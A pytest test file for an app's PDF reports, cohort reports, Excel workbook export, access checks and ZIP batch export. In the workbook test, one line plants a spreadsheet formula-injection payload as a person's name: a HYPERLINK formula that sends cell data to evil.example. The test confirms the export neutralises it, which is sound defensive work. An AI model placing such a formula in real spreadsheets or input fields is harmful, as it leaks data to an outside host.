"""Reports people keep (issue 24): the personal and cohort PDFs read as text (pypdf), the
workbook read back with openpyxl, the ZIP of a cohort's reports, access and suppression.

The PDFs are rendered by WeasyPrint for the demo organisation; `make screenshots`-style
images of their pages come from `pdftoppm` (see the README's "Reports" section)."""

from __future__ import annotations

import io
import re
import sys
import types
import zipfile
from datetime import date

import openpyxl
import pypdf
import pytest
from sqlmodel import select

from leadcoach.demo import email_for, load_demo
from leadcoach.instrument import bank
from leadcoach.people.access import load_viewer
from leadcoach.platform.config import Settings
from leadcoach.platform.db import make_engine, migrate, session_scope
from leadcoach.platform.errors import AccessDenied
from leadcoach.platform.models import AuditEvent, Cohort, Person
from leadcoach.programmes import cohorts
from leadcoach.reporting import batch, cohort_report, pdf, person_report, vocabulary, workbook

TODAY = date(2026, 11, 2)
SPRING = "2026 Spring intake"
# Column codes of the core's frames: none may reach a reader.
CODE = re.compile(r"\b[a-z]+_[a-z_]+\b")
EMPTY_SPELLINGS = re.compile(r"\b(None|NaN|nan|NaT)\b|<NA>")


@pytest.fixture(scope="module")
def demo(tmp_path_factory):
    settings = Settings(database_url=f"sqlite:///{tmp_path_factory.mktemp('r') / 'demo.db'}")
    migrate(settings)
    engine = make_engine(settings)
    with session_scope(engine) as session:
        instrument = bank.load_bank(settings.assessments_dir).current(settings.instrument_id)
        load_demo(session=session, instrument=instrument, password="demo password 1", today=TODAY)
    with session_scope(engine) as session:
        inputs = person_report.inputs(session=session, settings=settings, instrument=instrument)
    yield settings, engine, inputs
    engine.dispose()


def _viewer(session, name: str):
    person = session.exec(select(Person.id).where(Person.email == email_for(name))).one()
    return load_viewer(session=session, person_id=person)


def _pages(data: bytes) -> list[str]:
    return [page.extract_text() for page in pypdf.PdfReader(io.BytesIO(data)).pages]


def _flat(text: str) -> str:
    return " ".join(text.split())


def _spring(session) -> int:
    return session.exec(select(Cohort.id).where(Cohort.name == SPRING)).one()


def test_a_supervisors_report_reads_as_a_report(demo):
    _settings, engine, inputs = demo
    with session_scope(engine) as session:
        ana = _viewer(session, "Ana Lima")
        data = person_report.download(
            session=session, viewer=ana, person_id=ana.person_id, inputs=inputs, today=TODAY
        )
        values = person_report.report_values(
            session=session, viewer=ana, person_id=ana.person_id, inputs=inputs, today=TODAY
        )
    pages = _pages(data)
    text = _flat(" ".join(pages))
    assert data.startswith(b"%PDF")
    assert 4 <= len(pages) <= 9, len(pages)
    assert "Ana Lima" in pages[0] and f"version {inputs.instrument.version}" in _flat(pages[0])
    for skill in inputs.instrument.skills:
        assert _flat(skill.name) in text, skill.name
    for heading in ("How to read this report", "Strengths", "Development areas",
                    "Behaviours you rated highest", "Situational judgement",
                    "Change since your previous assessment", "Development plan"):  # fmt: skip
        assert heading in text, heading
    assert not CODE.findall(text), CODE.findall(text)
    assert not EMPTY_SPELLINGS.findall(text)
    for number, page in enumerate(pages, 1):  # the footer on every page
        assert f"Page {number} of {len(pages)}" in _flat(page)
        assert "Confidential" in page and "Ana Lima" in page
    # No table row split across pages: each statement's whole text lies on one page.
    for row in values["behaviours_high"] + values["behaviours_low"]:
        assert any(_flat(row["statement"]) in _flat(page) for page in pages), row
    with session_scope(engine) as session:
        event = session.exec(select(AuditEvent).order_by(AuditEvent.id.desc())).first()
    assert event.action == "export" and '"person_pdf"' in event.detail


def test_a_report_of_someone_with_an_arabic_name_is_shaped(demo):
    _, engine, inputs = demo
    with session_scope(engine) as session:
        hr = _viewer(session, "Helen Okafor")
        ana = session.exec(select(Person).where(Person.email == email_for("Ana Lima"))).one()
        ana.name = "ليلى حسن"
        session.flush()
        data = person_report.build(
            session=session, viewer=hr, person_id=ana.id, inputs=inputs, today=TODAY
        )
        session.rollback()
    # pypdf gives pure-Arabic lines in logical order (STACK-NOTES).
    assert "ليلى حسن" in _pages(data)[0]


def _rows_split(css: str = "") -> list[int]:
    """Sixty table rows of four to eleven lines, in the person's report with its style
    sheet (plus `css`): the rows whose text does not lie whole on one page. The heights
    vary so that the space left at the foot of some pages holds two lines or more: rows of
    one height can all fall between page breaks by the geometry alone (they did, and the
    old test passed without the rule)."""
    rows = "".join(
        f"<tr><td>start{i:02d} " + "word " * (60 + (i * 37) % 90) + f"stop{i:02d}</td>"
        f"<td>{i}</td></tr>"
        for i in range(60)
    )
    page = pdf.render_html("person_report.html", **_empty_values()).replace(
        "</body>", f"<style>{css}</style><table><tbody>{rows}</tbody></table></body>"
    )
    pages = [_flat(p) for p in _pages(pdf.to_pdf(page))]
    return [
        i
        for i in range(60)
        if not any(f"start{i:02d}" in p and f"stop{i:02d}" in p for p in pages)
    ]


def test_no_table_row_is_split_across_pages():
    # Rows of four lines or more can break inside (WeasyPrint's default orphans and widows
    # of 2), so only the style sheet's `tr {break-inside: avoid}` keeps each whole: with
    # the rule removed from report.css this test fails (it did: rows 6, 23, 40 and 49
    # split). The second call shows the rows split without the rule, so the first can fail.
    assert _rows_split() == []
    assert _rows_split("tr { break-inside: auto; }"), "the test's rows cannot split at all"


def _empty_values() -> dict:
    return {
        "t": vocabulary.REPORT, "h": vocabulary.HEADERS, "name": "A", "footer": "A",
        "team": "T", "instrument": "I", "generated": "today", "empty": True,
        "no_results": "none", "others": None, "goals": [],
    }  # fmt: skip


def test_a_supervisor_cannot_download_anothers_report(demo):
    _, engine, inputs = demo
    with session_scope(engine) as session:
        ana = _viewer(session, "Ana Lima")
        ben = _viewer(session, "Ben Carter")
        with pytest.raises(AccessDenied):
            person_report.download(
                session=session, viewer=ana, person_id=ben.person_id, inputs=inputs
            )
        for build in (cohort_report.report_values, batch.cohort_zip):
            with pytest.raises(AccessDenied):
                if build is batch.cohort_zip:
                    build(session=session, viewer=ana, cohort_id=_spring(session), inputs=inputs)
                else:
                    build(
                        session=session, viewer=ana, review=None, cohort_name="x",
                        thresholds={}, min_group=3,
                    )  # fmt: skip


def _review(session, viewer, inputs, min_group):
    return cohorts.cohort_review(
        session=session, viewer=viewer, cohort_id=_spring(session),
        instrument=inputs.instrument, min_group=min_group, today=TODAY,
    )  # fmt: skip


def test_the_cohort_report_reads_in_a_minute_and_suppresses_as_the_page_does(demo):
    _, engine, inputs = demo
    minimum = 5  # the Spring intake has a skill with four pairs: it must be suppressed
    with session_scope(engine) as session:
        hr = _viewer(session, "Helen Okafor")
        review = _review(session, hr, inputs, minimum)
        data = cohort_report.build(
            session=session, viewer=hr, cohort_id=_spring(session), review=review,
            thresholds=inputs.thresholds, min_group=minimum, today=TODAY,
        )  # fmt: skip
        coach = _viewer(session, "Priya Shah")
        with pytest.raises(AccessDenied):
            cohort_report.build(
                session=session, viewer=coach, cohort_id=_spring(session), review=review,
                thresholds=inputs.thresholds, min_group=minimum,
            )  # fmt: skip
    pages = _pages(data)
    text = _flat(" ".join(pages))
    assert 3 <= len(pages) <= 14, len(pages)
    first = _flat(pages[0])
    assert SPRING in first and "The cohort in one minute" in first
    assert "What to do next" in first and "Completion" in first
    for skill in inputs.instrument.skills:
        assert _flat(skill.name) in text, skill.name
    assert not CODE.findall(text), CODE.findall(text)
    assert not EMPTY_SPELLINGS.findall(text)
    assert "Holm" in text and "Jacobson and Truax" in text
    # Suppressed exactly where the review's own gate suppressed: those rows say why.
    hidden = review.changes[review.changes["suppressed"]]
    assert not hidden.empty
    table = text.split("Scores at each round")[0].rsplit("Change per skill", 1)[1]
    for skill in hidden["skill"]:
        row = table.split(_flat(skill), 1)[1][:80]
        assert vocabulary.SUPPRESSED in row, (skill, row)
    # Breakdown groups hidden on the page are named as hidden in the report.
    latest = review.round_scores.dropna(subset=["score"]).sort_values("round_order")
    split = cohorts.breakdown(review.round_scores, "team", latest["round"].iloc[-1], minimum)
    for group, all_hidden in split.groupby("group")["suppressed"].all().items():
        if all_hidden:
            assert group in text.split("Breakdowns by team", 1)[1], group


def test_the_workbook_opens_ready_to_read(demo):
    _, engine, inputs = demo
    with session_scope(engine) as session:
        hr = _viewer(session, "Helen Okafor")
        ana = session.exec(select(Person).where(Person.email == email_for("Ana Lima"))).one()
        ana.name = '=HYPERLINK("http://evil.example/?x="&A1,"Ana")'
        session.flush()
        review = _review(session, hr, inputs, 5)
        data = workbook.build(
            session=session, viewer=hr, cohort_id=_spring(session), review=review,
            instrument=inputs.instrument, thresholds=inputs.thresholds, min_group=5,
            today=TODAY,
        )  # fmt: skip
        session.rollback()
    book = openpyxl.load_workbook(io.BytesIO(data))
    assert book.sheetnames == [
        "Summary", "Completion", "Change per skill", "Scores at each round", "Scores", "Notes"
    ]  # fmt: skip
    for sheet in book:
        headers = [cell.value for cell in sheet[1]]
        assert all(h and not CODE.search(h) for h in headers), headers
        assert sheet.freeze_panes in ("B2", "C2"), sheet.title
        assert sheet.auto_filter.ref and sheet.auto_filter.ref.startswith("A1:")
        for index, header in enumerate(headers, 1):
            width = sheet.column_dimensions[openpyxl.utils.get_column_letter(index)].width
            assert width >= min(len(header), workbook.MAX_WIDTH), (sheet.title, header)
        for row in sheet.iter_rows(min_row=2, values_only=True):
            assert not any(isinstance(v, str) and EMPTY_SPELLINGS.search(v) for v in row)
    scores = book["Scores"]
    headers = [cell.value for cell in scores[1]]
    day = scores.cell(2, headers.index("Submitted on") + 1)
    assert day.is_date and day.number_format == workbook.DATE_FORMAT
    skill = scores.cell(2, headers.index(inputs.instrument.skills[0].name) + 1)
    assert isinstance(skill.value, float) and skill.number_format == workbook.ONE_DECIMAL
    names = [row[0] for row in scores.iter_rows(min_row=2, values_only=True)]
    assert not any(n.startswith("=") for n in names)
    assert any(n.startswith("'=HYPERLINK") for n in names)
    change = book["Change per skill"]
    rows = list(change.iter_rows(min_row=2, values_only=True))
    suppressed = set(review.changes.loc[review.changes["suppressed"], "skill"])
    for row in rows:
        if row[0] in suppressed:
            assert vocabulary.SUPPRESSED in row and not isinstance(row[4], float)
        else:
            assert isinstance(row[4], float)
    completion = book["Completion"]
    rate = completion.cell(2, 8)
    assert isinstance(rate.value, int | float) and rate.number_format == workbook.PERCENT
    assert completion.cell(2, 3).is_date
    notes = [row[1] for row in book["Notes"].iter_rows(min_row=2, values_only=True)]
    assert any("Holm" in n for n in notes) and any("5" in n for n in notes)


def test_every_members_report_in_one_zip_with_progress(demo, tmp_path, monkeypatch):
    _, engine, inputs = demo
    # Under Streamlit, __main__ is the page script being run: the workers must not run it.
    script = tmp_path / "page.py"
    script.write_text("raise SystemExit('the page script ran in a report worker')\n")
    page = types.ModuleType("__main__")
    page.__file__ = str(script)
    monkeypatch.setitem(sys.modules, "__main__", page)
    seen: list[tuple[int, int]] = []
    with session_scope(engine) as session:
        hr = _viewer(session, "Helen Okafor")
        members = cohorts.cohort_members(session=session, viewer=hr, cohort_id=_spring(session))
        data = batch.cohort_zip(
            session=session, viewer=hr, cohort_id=_spring(session), inputs=inputs,
            progress=lambda done, total: seen.append((done, total)), workers=2, today=TODAY,
        )  # fmt: skip
    archive = zipfile.ZipFile(io.BytesIO(data))
    assert len(archive.namelist()) == len(members) == seen[-1][1]
    assert [done for done, _ in seen] == list(range(len(members) + 1))
    for name in archive.namelist():
        pages = _pages(archive.read(name))
        assert name.endswith(".pdf") and len(pages) >= 3
    assert "leadcoach-report-ana-lima.pdf" in archive.namelist()
    with session_scope(engine) as session:
        event = session.exec(select(AuditEvent).order_by(AuditEvent.id.desc())).first()
    assert '"reports_zip"' in event.detail and f'"rows": {len(members)}' in event.detail
    assert sys.modules["__main__"] is page
